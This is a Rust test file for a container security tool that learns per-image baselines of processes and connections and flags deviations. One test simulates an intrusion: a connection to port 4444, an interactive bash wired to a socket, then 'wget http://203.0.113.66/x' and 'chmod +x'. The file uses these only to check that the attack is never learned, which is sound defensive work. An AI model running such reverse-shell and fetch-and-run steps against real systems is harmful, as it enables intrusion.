#![expect(clippy::unwrap_used, reason = "tests")]

use super::*;
use crate::container::path::Runtime;
use crate::container::registry::Metadata;
use crate::detect::testing::{CONTAINER, Lab};
use crate::detect::{ContainerFacts, Context};
use crate::event::{Body, ConnectOp, Payload, ProcessKey, Verdict};

/// The container's first process is 5, as in the lab.
struct Init;

impl ContainerFacts for Init {
    fn init(&self, container: ContainerKey) -> Option<ProcessKey> {
        (container == CONTAINER).then(|| Lab::key(5))
    }
}

struct Scene {
    lab: Lab,
    baselines: Baselines,
    folder: tempfile::TempDir,
}

fn container(labels: &[(&str, &str)]) -> Container {
    Container {
        key: CONTAINER,
        id: "0123456789abcdef".repeat(4),
        runtime: Runtime::Docker,
        pod_uid: None,
        path: "/docker/x".into(),
        metadata: Metadata {
            image: "web:1".into(),
            labels: labels.iter().map(|(k, v)| ((*k).to_owned(), (*v).to_owned())).collect(),
            complete: true,
            ..Metadata::default()
        },
        gone: false,
    }
}

impl Scene {
    fn new(runtime_exec: RuntimeExec) -> Self {
        let folder = tempfile::tempdir().unwrap();
        let learn = vec!["web".parse().unwrap()];
        let settings = Settings {
            folder: folder.path().to_owned(),
            learn,
            settle_ns: 1_000_000_000,
            write_ns: 0,
            runtime_exec,
            drift_lock: false,
            promotion: Promotion::default(),
        };
        let mut lab = Lab::new();
        lab.facts = Box::new(Init);
        Self { lab, baselines: Baselines::new(settings).0, folder }
    }

    /// An event through detectors and baselines, as the pipeline sends it: what deviates.
    fn send(&mut self, event: Event) -> Vec<Detection> {
        let found = self.lab.send(event.clone());
        let cx =
            Context { processes: &self.lab.table, settings: &self.lab.settings, containers: self.lab.facts.as_ref() };
        for detection in &found {
            self.baselines.found(&event, detection, &cx);
        }
        let Some(act) = self.baselines.observe(&event, &cx) else { return Vec::new() };
        self.baselines.learn(&event, &act, &cx);
        self.baselines.judge(&event, &act, &cx).into_iter().collect()
    }

    fn exec(&mut self, pid: u32, parent: u32, args: &[&str]) -> Vec<Detection> {
        let exec = crate::detect::exec_for_tests(parent, args);
        let event = self.lab.event(pid, Body::Exec(Box::new(exec)));
        self.send(event)
    }

    fn connect(&mut self, pid: u32, to: &str) -> Vec<Detection> {
        let body = Body::Connect(self.lab.connection(pid, to, u64::from(pid)));
        let event = self.lab.event(pid, body);
        self.send(event)
    }

    fn resolve(&mut self, pid: u32, name: &str, address: [u8; 4]) {
        let data = crate::detect::dns::sample(name, address);
        let body = Payload {
            peer: "10.0.0.2:53".parse().unwrap(),
            protocol: 17,
            cookie: 9,
            inbound: true,
            index: 0,
            segment: 0,
            data,
        };
        let event = self.lab.event(pid, Body::Payload(Box::new(body)));
        self.send(event);
    }

    /// Everything that was held back long enough is written.
    fn write(&mut self) -> String {
        self.lab.advance(10_000);
        let now = self.lab.event(5, Body::Exit { code: 0 }).time_ns;
        self.baselines.tick(now);
        std::fs::read_to_string(self.folder.path().join("web=1.toml")).unwrap_or_default()
    }

    fn stage(&mut self, from: &str, to: &str) {
        let path = self.folder.path().join("web=1.toml");
        let text =
            std::fs::read_to_string(&path).unwrap().replace(&format!("mode = \"{from}\""), &format!("mode = \"{to}\""));
        std::fs::write(&path, text).unwrap();
        self.baselines.tick(0);
    }
}

#[test]
fn what_was_learned_is_expected_and_nothing_else() {
    let mut scene = Scene::new(RuntimeExec::Deny);
    scene.baselines.container(&container(&[]));
    scene.exec(10, 5, &["nginx"]);
    scene.exec(11, 10, &["sh", "-c", "true"]);
    scene.resolve(11, "api.example", [198, 51, 100, 7]);
    scene.connect(11, "198.51.100.7:443");
    let text = scene.write();
    for wanted in ["/usr/bin/nginx", "text = \"argument\"", "to = \"api.example\"", "containers = [\"0123456789ab\"]"] {
        assert!(text.contains(wanted), "{wanted}: {text}");
    }
    scene.stage("learn", "monitor");
    assert!(scene.exec(20, 5, &["nginx"]).is_empty());
    assert!(scene.exec(21, 20, &["sh", "-c", "other"]).is_empty());
    scene.resolve(21, "api.example", [198, 51, 100, 99]);
    assert!(scene.connect(21, "198.51.100.99:443").is_empty(), "the name counts");
    let found = scene.connect(21, "203.0.113.9:443");
    assert_eq!(found[0].kind, FindingKind::BaselineConnect);
    let found = scene.exec(22, 20, &["curl", "x"]);
    assert_eq!((found[0].kind, found[0].alert_only), (FindingKind::BaselineExec, true));
    assert!(found[0].message.contains("/usr/bin/nginx starts /usr/bin/curl"), "{}", found[0].message);
    assert_eq!(scene.exec(23, 20, &["sh"])[0].kind, FindingKind::BaselineExec, "a shell without a command");
    scene.stage("monitor", "protect");
    assert!(!scene.exec(24, 20, &["perl", "-e", "1"])[0].alert_only);
    let counts = scene.baselines.counts();
    assert_eq!((counts.files, counts.conforming, counts.deviating), (1, 3, 4));
}

#[test]
fn an_attack_is_not_learned_nor_what_led_to_it_nor_what_descends_from_it() {
    let mut scene = Scene::new(RuntimeExec::Deny);
    scene.baselines.container(&container(&[]));
    scene.exec(10, 5, &["nginx"]);
    // Below a worker of its own: a look around, a shell on a connection, what that starts.
    scene.lab.fork(11, 5);
    scene.exec(12, 11, &["id"]);
    scene.connect(12, "203.0.113.66:4444");
    let mut shell = crate::detect::exec_for_tests(11, &["bash", "-i"]);
    shell.stdio = std::array::from_fn(|_| crate::detect::testing::out(crate::detect::testing::A));
    let event = scene.lab.event(13, Body::Exec(Box::new(shell)));
    scene.send(event);
    scene.exec(14, 13, &["wget", "http://203.0.113.66/x"]);
    scene.exec(15, 14, &["chmod", "+x", "x"]);
    let text = scene.write();
    assert!(text.contains("/usr/bin/nginx"), "the rest is learned: {text}");
    for never in ["/usr/bin/id", "203.0.113.66", "bash", "wget", "chmod"] {
        assert!(!text.contains(never), "{never}: {text}");
    }
}

#[test]
fn of_a_container_whose_first_process_is_the_culprit_nothing_is_learned() {
    let mut scene = Scene::new(RuntimeExec::Deny);
    scene.baselines.container(&container(&[]));
    scene.exec(10, 5, &["nginx"]);
    let event = scene.lab.event(5, Body::Exit { code: 0 });
    let cx =
        Context { processes: &scene.lab.table, settings: &scene.lab.settings, containers: scene.lab.facts.as_ref() };
    scene.baselines.found(&event, &Detection::new(FindingKind::Miner, Lab::key(5), "x"), &cx);
    scene.exec(11, 5, &["sh"]);
    assert_eq!(scene.write(), "");
}

#[test]
fn what_the_kernel_half_stopped_is_not_learned() {
    let mut scene = Scene::new(RuntimeExec::Deny);
    scene.baselines.container(&container(&[]));
    let body = crate::detect::exec_for_tests(5, &["nginx"]);
    let mut event = scene.lab.event(10, Body::Exec(Box::new(body)));
    event.verdict = Verdict::Killed;
    scene.send(event);
    assert_eq!(scene.write(), "");
}

#[test]
fn acts_before_the_image_is_known_are_judged_and_learned_afterwards() {
    let mut scene = Scene::new(RuntimeExec::Deny);
    scene.exec(10, 5, &["nginx"]);
    scene.write();
    assert_eq!(scene.baselines.container(&container(&[])).len(), 1);
    assert!(scene.write().contains("nginx"));
    let (mut late, folder) = (Scene::new(RuntimeExec::Deny), scene.folder.path());
    std::fs::copy(folder.join("web=1.toml"), late.folder.path().join("web=1.toml")).unwrap();
    late.stage("learn", "monitor");
    late.exec(10, 5, &["nginx"]);
    late.exec(11, 5, &["curl"]);
    let early = late.baselines.container(&container(&[]));
    let cx = Context { processes: &late.lab.table, settings: &late.lab.settings, containers: late.lab.facts.as_ref() };
    let found: Vec<Detection> = early.iter().filter_map(|(event, act)| late.baselines.judge(event, act, &cx)).collect();
    assert_eq!(found.len(), 1, "{found:?}");
    assert_eq!(found[0].culprit, Lab::key(11));
}

#[test]
fn sessions_from_outside_are_what_the_setting_says() {
    // 9 was started from outside, and is not the first process.
    for (setting, told, spared) in
        [(RuntimeExec::Allow, 0, true), (RuntimeExec::Alert, 1, true), (RuntimeExec::Deny, 1, false)]
    {
        let mut scene = Scene::new(setting);
        scene.baselines.container(&container(&[]));
        scene.exec(10, 5, &["nginx"]);
        let text = scene.write();
        scene.exec(30, 3, &["bash"]);
        let learned = scene.write() != text;
        assert_eq!(learned, setting != RuntimeExec::Allow, "{setting:?}");
        scene.stage("learn", "protect");
        let found = scene.exec(31, 9, &["ls"]);
        assert_eq!(found.len(), told, "{setting:?}");
        assert!(found.iter().all(|d| d.alert_only == spared), "{setting:?}");
    }
}

#[test]
fn labels_come_before_the_file() {
    let mut scene = Scene::new(RuntimeExec::Deny);
    scene.baselines.container(&container(&[]));
    scene.exec(10, 5, &["nginx"]);
    scene.write();
    scene.stage("learn", "monitor");
    for (label, told, acted) in
        [("off", 0, false), ("learn", 0, false), ("monitor", 1, false), ("protect", 1, true), ("x", 1, false)]
    {
        scene.baselines.container(&container(&[(LABEL, label)]));
        let found = scene.exec(20, 5, &["curl"]);
        assert_eq!(found.len(), told, "{label}");
        assert!(found.iter().all(|d| d.alert_only != acted), "{label}");
    }
}

#[test]
fn an_image_that_nobody_named_has_no_baseline() {
    let mut scene = Scene::new(RuntimeExec::Deny);
    let mut other = container(&[]);
    other.metadata.image = "other:1".into();
    scene.baselines.container(&other);
    scene.exec(10, 5, &["nginx"]);
    scene.write();
    assert_eq!(std::fs::read_dir(scene.folder.path()).unwrap().count(), 0);
}

#[test]
fn a_program_that_starts_another_in_its_place_is_its_parent() {
    let mut scene = Scene::new(RuntimeExec::Deny);
    scene.baselines.container(&container(&[]));
    scene.exec(10, 5, &["sh", "entry.sh"]);
    scene.exec(10, 5, &["nginx"]);
    let text = scene.write();
    assert!(text.contains("parent = \"/usr/bin/sh\"\nexe = \"/usr/bin/nginx\""), "{text}");
}

#[test]
fn what_cannot_be_written_is_told_once_and_written_later() {
    let mut scene = Scene::new(RuntimeExec::Deny);
    scene.baselines.container(&container(&[]));
    scene.exec(10, 5, &["nginx"]);
    let blocked = scene.folder.path().join(".web=1.toml.new");
    std::fs::create_dir(&blocked).unwrap();
    let later = |scene: &mut Scene| {
        scene.lab.advance(10_000);
        let now = scene.lab.event(5, Body::Exit { code: 0 }).time_ns;
        scene.baselines.tick(now)
    };
    assert!(matches!(&later(&mut scene)[..], [Told::Unwritten(_)]));
    assert!(later(&mut scene).is_empty());
    std::fs::remove_dir(&blocked).unwrap();
    assert!(matches!(&later(&mut scene)[..], [Told::Learned { new: 1, .. }]));
}

#[test]
fn listening_and_lookups() {
    let mut scene = Scene::new(RuntimeExec::Deny);
    scene.baselines.container(&container(&[]));
    scene.exec(10, 5, &["nginx"]);
    let mut listen = scene.lab.connection(10, "0.0.0.0:45000", 1);
    listen.op = ConnectOp::Listen;
    let event = scene.lab.event(10, Body::Connect(listen));
    scene.send(event);
    scene.connect(10, "10.0.0.2:53");
    let text = scene.write();
    assert!(text.contains("port = \"32768-60999\""), "{text}");
    assert!(text.contains("exe = \"*\"\nto = \"10.0.0.2\"\nport = \"53\""), "{text}");
}

#[test]
fn the_drift_lock_takes_no_excuse() {
    let mut scene = Scene::new(RuntimeExec::Deny);
    scene.baselines.container(&container(&[]));
    let upper = |scene: &mut Scene, pid| {
        let mut exec = crate::detect::exec_for_tests(5, &["/srv/tool"]);
        exec.exe.flags = crate::event::file::FILE_OVERLAY | crate::event::file::FILE_UPPER;
        let event = scene.lab.event(pid, Body::Exec(Box::new(exec)));
        scene.send(event)
    };
    upper(&mut scene, 10);
    assert!(scene.write().contains("layer = \"upper\""));
    scene.stage("learn", "monitor");
    assert!(upper(&mut scene, 11).is_empty(), "it was learned");
    scene.baselines.settings.drift_lock = true;
    assert_eq!(upper(&mut scene, 12).len(), 1);
}

#[test]
fn mapped_code_is_told_as_what_it_is() {
    let mut scene = Scene::new(RuntimeExec::Deny);
    scene.baselines.container(&container(&[]));
    scene.exec(10, 5, &["/usr/bin/web"]);
    scene.write();
    scene.stage("learn", "protect");
    let flags = crate::event::file::FILE_MAPPED | crate::event::file::FILE_OVERLAY | crate::event::file::FILE_UPPER;
    let open = crate::detect::testing::open("/tmp/x.so", flags, 0);
    let mut event = scene.lab.event(10, Body::Open(Box::new(open)));
    assert!(scene.send(event.clone()).is_empty(), "the kernel half has no objection");
    event.reason = Reason::BaselineExec;
    let found = scene.send(event);
    let said = found.first().map(|detection| (detection.kind, detection.message.as_str()));
    let wanted = "/usr/bin/web maps code of /tmp/x.so (upper): the baseline web=1 is locked to the image's";
    assert_eq!(said, Some((FindingKind::BaselineExec, wanted)));
}

#[test]
fn quiet_ones_are_promoted_and_news_puts_it_off() {
    const HOUR: u64 = 3_600_000_000_000;
    let mut scene = Scene::new(RuntimeExec::Deny);
    scene.baselines.settings.promotion = Promotion { up_to: Some(Stage::Protect), quiet_ns: HOUR };
    scene.baselines.container(&container(&[]));
    scene.exec(10, 5, &["nginx"]);
    scene.write();
    let mut now = 1 << 50;
    let mut later = |scene: &mut Scene, hours: u64| {
        now += hours * HOUR;
        let promoted = |told: &Told| matches!(told, Told::Promoted { .. });
        let told = scene.baselines.tick(now).iter().any(promoted);
        let text = std::fs::read_to_string(scene.folder.path().join("web=1.toml")).unwrap();
        let mode = text.lines().find_map(|line| line.strip_prefix("mode = ")).unwrap_or_default().to_owned();
        (mode, told)
    };
    later(&mut scene, 1);
    assert_eq!(later(&mut scene, 2), ("\"learn\"".into(), false), "nobody was at work");
    scene.exec(11, 5, &["nginx"]);
    assert_eq!(later(&mut scene, 1), ("\"monitor\"".into(), true));
    later(&mut scene, 0);
    scene.exec(12, 5, &["nginx"]);
    assert_eq!(scene.exec(13, 12, &["curl", "x"])[0].kind, FindingKind::BaselineExec);
    assert_eq!(later(&mut scene, 2), ("\"monitor\"".into(), false), "a deviation");
    scene.exec(14, 5, &["nginx"]);
    scene.baselines.unsure(CONTAINER);
    assert_eq!(later(&mut scene, 2), ("\"monitor\"".into(), false), "something was lost");
    scene.exec(15, 5, &["nginx"]);
    assert_eq!(later(&mut scene, 1), ("\"protect\"".into(), true));
    scene.exec(16, 5, &["nginx"]);
    assert_eq!(later(&mut scene, 9), ("\"protect\"".into(), false));
}

#[test]
fn a_start_that_is_told_after_it_was_seen_keeps_its_parent() {
    let mut scene = Scene::new(RuntimeExec::Deny);
    scene.lab.fork(10, 5);
    scene.exec(10, 5, &["sh"]);
    scene.lab.fork(11, 10);
    let now = scene.lab.event(11, Body::Exit { code: 0 }).time_ns;
    let mut parent = |args: &[&str], time_ns: u64| {
        let exec = crate::detect::exec_for_tests(10, args);
        let event = Event { time_ns, ..scene.lab.event(11, Body::Exec(Box::new(exec))) };
        scene.lab.send(event.clone());
        let cx = Context {
            processes: &scene.lab.table,
            settings: &scene.lab.settings,
            containers: scene.lab.facts.as_ref(),
        };
        match scene.baselines.observe(&event, &cx) {
            Some(Act::Exec { parent, .. }) => parent,
            other => panic!("{other:?}"),
        }
    };
    // The look around, the start itself out of the ring, and what the process starts in its own place later.
    let seen = parent(&["sleep"], now);
    let (first, told, later) = (parent(&["env"], now - 2), parent(&["sleep"], now - 1), parent(&["id"], now + 1));
    assert!(seen.ends_with("/sh") && first == seen && told.ends_with("/env"), "{seen} {first} {told}");
    assert!(later.ends_with("/sleep"), "{later}");
}
